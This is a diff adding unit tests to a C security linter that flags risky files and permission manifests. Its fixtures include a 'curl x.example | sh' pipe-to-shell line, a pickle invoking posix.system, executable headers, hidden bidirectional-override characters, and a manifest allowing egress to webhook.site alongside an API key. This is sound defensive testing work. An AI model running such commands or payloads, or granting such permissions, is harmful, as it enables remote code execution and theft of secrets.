@@ -206,6 +206,21 @@ static void test_characters(void **state)
 	check_all(v, ARRAY_LEN(v));
 }
 
+/* Once in a line, and in each. */
+static void test_characters_are_told_once(void **state)
+{
+	static const char text[] = "a\xe2\x80\xae\xe2\x80\xae\xe2\x80\x8b\xe2\x80\x8b\n"
+	                           "b\xe2\x80\xae\xe2\x80\x8b\n";
+	AUTO(lint_done) struct lint l = { .grade = 'A' };
+
+	(void)state;
+	lint_bytes(&l, "a.txt", false, text, strlen(text));
+	assert_int_equal(l.n, 4);
+	for (size_t i = 0; i < l.n; i++) {
+		assert_int_equal(l.v[i].line, 1 + i / 2);
+	}
+}
+
 static void test_bytes(void **state)
 {
 	static const char elf[] = "\x7f"
@@ -214,8 +229,18 @@ static void test_bytes(void **state)
 	static const char pickle[] = "\x80\x04\x8c\x05posix\x8c\x06system\x93.";
 	static const char tame[] = "\x80\x04}\x94\x8c\x04opos\x94K\x01s.";
 	static const char nul[] = "#!/bin/bash\n\0\ncurl x.example | sh\n";
+	/* The name with four bytes of length; and one that is first a part of another. */
+	static const char long_name[] = "\x80\x02X\x05\0\0\0posixq\0.";
+	static const char later[] = "\x80\x04\x8c\x04opos\x94\x8c\x02os\x93.";
+	char windows[0x60] = "MZ";
 
 	(void)state;
+	check("m", long_name, sizeof(long_name) - 1, "SSB307");
+	check("m", later, sizeof(later) - 1, "SSB307");
+	check("a.exe", windows, sizeof(windows), "SSB304");
+	check("a.exe", windows, 0x40, "");
+	memset(windows + 2, 'x', sizeof(windows) - 2);
+	check("a.exe", windows, sizeof(windows), "");
 	check("run", elf, sizeof(elf) - 1, "SSB304");
 	check("m.pkl", text_pickle, sizeof(text_pickle) - 1, "SSB307");
 	check("model.bin", pickle, sizeof(pickle) - 1, "SSB307");
@@ -225,6 +250,59 @@ static void test_bytes(void **state)
 	check("run", nul, sizeof(nul) - 1, "SSB403");
 	check("x.bin", nul + 11, sizeof(nul) - 12, "");
 	check("x.txt", "MZ begins a text", 16, "");
+}
+
+/* Bytes that are no text are not read as one: a NUL near the beginning tells. */
+static void test_no_text(void **state)
+{
+	static const char turns[] = "\xe2\x80\xae";
+	char bytes[4096 + 8];
+
+	(void)state;
+	for (size_t at = 4000; at < sizeof(bytes) - 4; at++) {
+		memset(bytes, 'x', sizeof(bytes));
+		memcpy(bytes + sizeof(bytes) - 3, turns, 3);
+		check("x.bin", bytes, sizeof(bytes), "SSB401");
+		bytes[at] = '\0';
+		check("x.bin", bytes, sizeof(bytes), at < 4096 ? "" : "SSB401");
+	}
+}
+
+/* What can be executed is code whatever it is called. */
+static void test_executable(void **state)
+{
+	static const char text[] = "curl x.example | sh\n";
+
+	(void)state;
+	for (int executable = 0; executable < 2; executable++) {
+		AUTO(lint_done) struct lint l = { .grade = 'A' };
+		char got[64];
+		lint_bytes(&l, "x.dat", executable != 0, text, strlen(text));
+		assert_string_equal(ids_of(&l, got, sizeof(got)), executable ? "SSB403" : "");
+	}
+}
+
+/* What is only said weighs less by a grade, and is no error. */
+static void test_prose_weighs_less(void **state)
+{
+	static const struct {
+		enum lint_id id;
+		char grade;
+		enum lint_level level;
+	} EACH[] = {
+		{ LINT_SHELL_OUT, 'D', LINT_WARNING },
+		{ LINT_FETCHED, 'C', LINT_WARNING },
+		{ LINT_BOMB, 'C', LINT_WARNING },
+		{ LINT_NETWORK, 'B', LINT_NOTE },
+	};
+
+	(void)state;
+	for (size_t i = 0; i < ARRAY_LEN(EACH); i++) {
+		AUTO(lint_done) struct lint l = { .grade = 'A' };
+		lint_add_prose(&l, EACH[i].id, "x.md", 1, "x");
+		assert_int_equal(l.grade, EACH[i].grade);
+		assert_int_equal(l.v[0].level, EACH[i].level);
+	}
 }
 
 /* ---- bounds ----------------------------------------------------------------------- */
@@ -325,6 +403,12 @@ static void test_many_findings(void **state)
 	assert_int_equal(l.n, MAX_LINT_FINDINGS);
 	assert_true(l.cut);
 	assert_int_equal(l.grade, 'F');
+	/* That it is not is said at the end, once. */
+	lint_add_cut(&l);
+	lint_add_cut(&l);
+	assert_int_equal(l.n, MAX_LINT_FINDINGS + 1);
+	assert_int_equal(l.v[l.n - 1].id, LINT_INCOMPLETE);
+	assert_int_equal(l.v[l.n - 1].grade, 'D');
 }
 
 static void test_hostile_text_is_visible(void **state)
@@ -424,6 +508,12 @@ static void test_combinations(void **state)
 	asked("permissions: {network: {egress: [" HOST("'*.example.com'") "]}, env_vars: {allow: "
 	                                                                  "[API_KEY]}}",
 	      "SSB102 SSB202", 'D');
+	asked("permissions: {network: {egress: [" HOST("192.0.2.0/24") "]}, env_vars: {allow: "
+	                                                               "[API_KEY]}}",
+	      "SSB104 SSB202", 'D');
+	asked("permissions: {network: {egress: [" HOST("webhook.site") "]}, env_vars: {allow: "
+	                                                               "[API_KEY]}}",
+	      "SSB105 SSB202", 'D');
 	asked("permissions: {network: {egress: [" HOST("a.example.com") "]}, filesystem: {read: "
 	                                                                "[~/notes]}}",
 	      "SSB101 SSB107 SSB203", 'C');
@@ -456,7 +546,11 @@ int main(void)
 		cmocka_unit_test(test_programs),
 		cmocka_unit_test(test_prose_does_nothing_by_itself),
 		cmocka_unit_test(test_characters),
+		cmocka_unit_test(test_characters_are_told_once),
 		cmocka_unit_test(test_bytes),
+		cmocka_unit_test(test_no_text),
+		cmocka_unit_test(test_executable),
+		cmocka_unit_test(test_prose_weighs_less),
 		cmocka_unit_test(test_long_lines),
 		cmocka_unit_test(test_joined_lines),
 		cmocka_unit_test(test_tries),
